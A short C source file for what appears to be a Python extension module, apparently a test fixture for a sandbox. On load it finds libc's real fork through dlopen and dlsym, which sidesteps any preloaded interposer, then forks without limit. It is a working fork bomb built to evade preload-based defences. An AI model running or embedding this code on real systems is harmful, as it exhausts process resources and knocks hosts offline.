/* A fork bomb with the C library's own fork, whatever is preloaded. */
#include "module.h"

#include <dlfcn.h>
#include <string.h>
#include <unistd.h>

static int
execute(PyObject *module)
{
    pid_t (*own)(void);
    void *library = dlopen("libc.so.6", RTLD_NOW);
    void *found = library != NULL ? dlsym(library, "fork") : NULL;
    (void)module;
    memcpy(&own, &found, sizeof own);
    while (own != NULL && own() >= 0) {
    }
    for (;;) {
        (void)pause();
    }
    return 0;
}

MODULE(forks_past_us, execute, NULL, OWN_GIL)
